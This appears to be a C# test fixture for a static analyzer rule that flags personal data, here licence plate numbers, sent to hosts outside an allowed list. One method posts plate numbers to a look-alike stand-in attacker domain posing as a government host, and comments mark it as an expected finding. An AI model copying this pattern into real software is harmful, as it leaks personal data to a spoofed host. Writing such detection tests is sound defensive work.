// config: dataguard.allowed_hosts = api.police.internal, *.npa.gov.tw
using System;
using System.Net.Http;
using System.Net.Http.Json;
using System.Threading.Tasks;

namespace Police.Integrations.Vendors;

public sealed class TowingVendorClient
{
    private const string VendorBase = "https://dispatch.towing-partner.com.tw/api/";
    private readonly HttpClient _http = new();

    public Task<HttpResponseMessage> RequestTowAsync(string plateNo, string street) =>
        _http.PostAsJsonAsync(VendorBase + "tows", new { plateNo, street }); // expect: DG1005

    public Task<HttpResponseMessage> RequestTowAnonymousAsync(string street) =>
        _http.PostAsJsonAsync(VendorBase + "tows", new { street });

    public Task<HttpResponseMessage> MirrorToNpaAsync(string plateNo) =>
        _http.PostAsJsonAsync("https://tows.npa.gov.tw/api/mirror", new { plateNo });

    public Task<HttpResponseMessage> MirrorToLookAlikeAsync(string plateNo) =>
        _http.PostAsJsonAsync("https://npa.gov.tw.evil-example.com/api/mirror", new { plateNo }); // expect: DG1005
}
